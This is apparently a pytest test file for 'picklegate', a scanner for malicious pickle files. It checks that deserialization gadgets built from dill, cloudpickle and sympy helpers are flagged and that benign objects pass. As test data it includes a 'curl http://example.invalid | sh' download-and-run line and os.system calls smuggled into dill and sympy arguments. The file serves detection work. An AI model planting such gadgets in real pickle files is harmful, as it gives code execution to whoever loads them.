# ruff: noqa: FBT003  the arguments are those of the calls that dill makes
"""Helpers of dill and sympy that call what they are given, or return what is there already."""

from __future__ import annotations

from typing import Any

import pytest

from picklegate import Verdict, scan_bytes
from picklegate.training.tree import Build, Call, Name, New, Then
from support.builders import COMMAND, SYSTEM, call, written

_RUN = Name("package.tools", "run_command")
_DOWNLOAD = "curl http://example.invalid | sh"
_SYMBOL = call("sympy.core.symbol", "Symbol", "x")


def _dill(name: str, *args: Any) -> Call:
    return call("dill._dill", name, *args)


def _undefined(assumptions: dict[str, Any], *args: Any) -> New:
    return New(call("sympy.core.function", "_rebuild_undef", "f", assumptions), args)


_CODE = call("types", "CodeType", 0, 0, 0, 0, 1, 3, b"d\x00S\x00", (None,), (), (), "f", "f", 1, b"", (), ())
_SLOTS: dict[str, Any] = {"__globals__": {}, "__closure__": None, "_cloudpickle_submodules": [], "__code__": _CODE}
_PATCHED = Name("torch._utils", "_rebuild_parameter")


def _cloudpickle(name: str, *args: Any) -> Call:
    return call("cloudpickle.cloudpickle", name, *args)


_HOSTILE = {
    "function-of-torch-changed": _cloudpickle("_function_setstate", _PATCHED, ({}, _SLOTS)),
    "function-of-torch-filled": _cloudpickle("_fill_function", _PATCHED, {"code": _CODE}),
    "class-changed": _cloudpickle("_class_setstate", Name("collections", "OrderedDict"), ({"update": _RUN}, {})),
    "dict-of-a-module-changed": _dill("_setitems", Name("package.registry", "HOOKS"), {"save": _RUN}),
    "skeleton": _cloudpickle("_make_skeleton_class", _RUN, _DOWNLOAD, (), {}, None, None),
    "type": _dill("_create_type", _RUN, _DOWNLOAD),
    "type-primitive": _dill("_create_type", SYSTEM, COMMAND),
    "array": _dill("_create_array", _RUN, (_DOWNLOAD,), (), None),
    "array-primitive": _dill("_create_array", SYSTEM, (COMMAND,), (), None),
    "partial": _dill("_create_ftype", _RUN, _DOWNLOAD, (), None),
    "partial-called": Call(_dill("_create_ftype", Name("functools", "partial"), SYSTEM, (COMMAND,), None), ()),
    "namedtuple-that-exists": Call(_dill("_create_namedtuple", "system", ("a",), "os"), (COMMAND,)),
    "namedtuple-in-parts": Call(_dill("_create_namedtuple", "path.os.system", ("a",), "posixpath"), (COMMAND,)),
    "sympy-bases": _undefined({"bases": (Name("package.tools", "Base"),)}, _SYMBOL),
    "sympy-evaluated": _undefined({}, "__import__('os').system('echo inert')"),
}


@pytest.mark.parametrize("name", _HOSTILE)
def test_what_a_helper_calls_is_judged(name: str) -> None:
    """A helper is no way around the judgement on what it is made to call."""
    assert scan_bytes(written(_HOSTILE[name])).verdict > Verdict.CLEAN


_TYPE = _dill("_load_type", "type")
_ARRAY = (Name("numpy", "ndarray"), (0,), b"b")
_STATE = (1, (2,), call("numpy", "dtype", "f4", False, True), False, bytes(8))
_META = _cloudpickle(
    "_make_skeleton_class", Name("package.meta", "Meta"), "Model", (Name("torch", "nn"),), {}, "i", None
)
_HONEST = {
    "class-of-a-metaclass": New(Then((_cloudpickle("_class_setstate", _META, ({"size": 3}, {})),), _META)),
    "namedtuple": [Call(_dill("_create_namedtuple", "Point", ("x", "y"), "__main__"), (1, 2))],
    "class": New(_dill("_create_type", _TYPE, "Model", (_dill("_load_type", "object"),), {"__module__": "__main__"})),
    "array": _dill("_create_array", Name("numpy.core.multiarray", "_reconstruct"), _ARRAY, _STATE, None),
    "partial": Build(
        _dill(
            "_create_ftype", Name("functools", "partial"), Name("torch.nn.functional", "relu"), (), {"inplace": True}
        ),
        {},
    ),
    "undefined-function": _undefined({}, _SYMBOL),
}


@pytest.mark.parametrize("name", _HONEST)
def test_what_dill_writes_for_honest_objects_is_clean(name: str) -> None:
    """Classes, arrays, partials and named tuples by value are what each file of dill has."""
    assert scan_bytes(written(_HONEST[name])).verdict == Verdict.CLEAN


def test_what_dill_evaluates_is_the_slot_that_it_names_or_execution() -> None:
    """``dill._getattr`` evaluates a part of its third argument."""
    honest = call("dill._dill", "_getattr", Name("builtins", "str"), "lower", "<method 'lower' of 'str' objects>")
    assert scan_bytes(written(honest)).verdict == Verdict.CLEAN
    for text in (f"a'b'c'__import__(\"os\").system(\"{COMMAND}\")#'", "<method 'lower' of 'dict' objects>"):
        hostile = call("dill._dill", "_getattr", Name("builtins", "str"), "lower", text)
        assert scan_bytes(written(hostile)).verdict == Verdict.MALICIOUS
